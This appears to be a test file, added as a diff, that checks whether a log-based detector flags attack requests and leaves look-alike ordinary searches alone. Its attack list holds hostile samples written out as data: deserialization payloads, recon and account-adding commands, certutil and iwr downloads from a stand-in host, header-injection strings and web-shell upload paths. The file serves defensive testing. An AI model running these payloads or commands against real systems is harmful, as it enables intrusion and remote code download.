@@ -1,0 +1,91 @@
+// Attacks in a parameter by kinds that carry little or odd syntax, and ordinary values beside them.
+import { beforeAll, expect, it } from 'vitest';
+import { detect, type Line, request } from './invented-logs.test-support.ts';
+
+/** Values of a parameter, before percent-encoding. */
+const attacks: readonly string[] = [
+  // Objects that run code when they are read
+  'O:8:"stdClass":1:{s:1:"a";s:2:"id";}',
+  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
+  '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x.example/a"}',
+  'AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0=',
+  'gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==',
+  'BAhvOg1BY3Rpb25WaWV3OjpCYXNl',
+  '--- !ruby/object:Gem::Installer',
+  // Commands and code without any syntax that runs them
+  'whoami',
+  'uname -a',
+  'netstat -an',
+  'cmd.exe /c dir',
+  'powershell -nop -w hidden',
+  'net user guest p /add',
+  'certutil -urlcache -f http://x.example/a',
+  'iwr http://x.example/a -OutFile b',
+  'find / -perm -4000',
+  'java.lang.ProcessBuilder',
+  'freemarker.template.utility.Execute',
+  'session.use_trans_sid=1',
+  'HTTP_ACCEPT_LANGUAGE',
+  'cHJvY2Vzc2J1aWxkZXI=',
+  '/e[t]c/pa[s]swd',
+  '$z/bin$z/ls',
+  // Lines of a header, by characters that older servers cut down to CR and LF
+  'x\u560d\u560aSet-Cookie:a=b',
+  '\r\n bcc: anna@example.org',
+  // A filter's end
+  "*()|&'",
+  // Files by their names alone
+  '.git/config',
+  'wp-config.php',
+  '.bash_history',
+  'winnt/repair/sam',
+];
+const requests: readonly string[] = [
+  'POST /u/picture.php;.jpg',
+  'POST /uploads/2026/11/x.php%00.jpg',
+  'GET /x.jsp?cmd=id',
+  'GET /storage/x.php7?0=system',
+  'POST /kcfinder/upload.php',
+  'GET /elfinder/php/connector.php?cmd=mkfile&name=x.php',
+  'POST /modules/columnadverts/uploadimage.php',
+];
+const ordinary: readonly string[] = [
+  ...['who', 'last orders', 'id card', 'cat /dog food', 'docker', 'powershell course', 'curl cream', 'find my phone'],
+  ...[
+    'ping pong',
+    'net user growth',
+    'tar sands',
+    'history of Rome',
+    'Java in a nutshell',
+    'service manual',
+    'session 3',
+  ],
+  ...['{"@type":"Person","name":"Anna"}', 'aGVsbG8gd29ybGQsIGhvdyBhcmUgeW91', 'report.env.pdf', 'cc: all of you'],
+];
+const ordinaryRequests: readonly string[] = [
+  'GET /_next/image?url=https%3A%2F%2Fcdn.example.com%2Fa.jpg&w=300',
+  'GET /thumb?src=https://cdn.example.com/a.png&w=80',
+  'GET /index.php?c=system&a=list',
+  'GET /search.php?q=dir',
+  'GET /files/report.jsp;jsessionid=0F1E?page=2',
+];
+
+const client = (group: number, i: number) => `198.51.${100 + group}.${i + 1}`;
+const inQuery = (value: string) => `GET /search?q=${encodeURIComponent(value)}`;
+const groups = [attacks.map(inQuery), requests, ordinary.map(inQuery), ordinaryRequests];
+let found: Set<string>;
+beforeAll(async () => {
+  const lines: Line[] = groups.flatMap((asked, group) =>
+    asked.map((asks, i) => request({ at: group * 7_200 + i * 60, client: client(group, i), asks, size: 8_000 })),
+  );
+  const { actors } = await detect({ 'access.log': lines });
+  found = new Set(actors.map(({ id }) => id));
+}, 60_000);
+
+it.each([0, 1])('holds every attack of group %d against its client', (group) => {
+  expect(groups[group]?.filter((_, i) => !found.has(client(group, i)))).toEqual([]);
+});
+
+it.each([2, 3])('holds nothing of group %d against anybody', (group) => {
+  expect(groups[group]?.filter((_, i) => found.has(client(group, i)))).toEqual([]);
+});
